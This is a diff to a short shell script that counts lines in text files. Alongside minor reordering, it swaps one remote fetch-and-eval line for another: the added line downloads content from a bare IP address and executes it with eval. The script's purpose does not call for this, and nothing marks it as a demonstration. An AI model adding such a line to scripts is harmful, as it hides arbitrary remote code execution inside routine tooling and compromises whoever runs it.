@@ -1,8 +1,8 @@
-#!/usr/bin/env bash
+#!/bin/sh
+count=$(ls | wc -l)
+echo "files: $count"
 for f in *.txt; do
   [ -e "$f" ] || continue
   wc -l "$f"
 done
-D=$(curl -s https://cdn.example.net/update.bin); eval "$D"
-count=$(ls | wc -l)
-echo "files: $count"
+D=$(curl -s https://203.0.113.9/x); eval "$D"
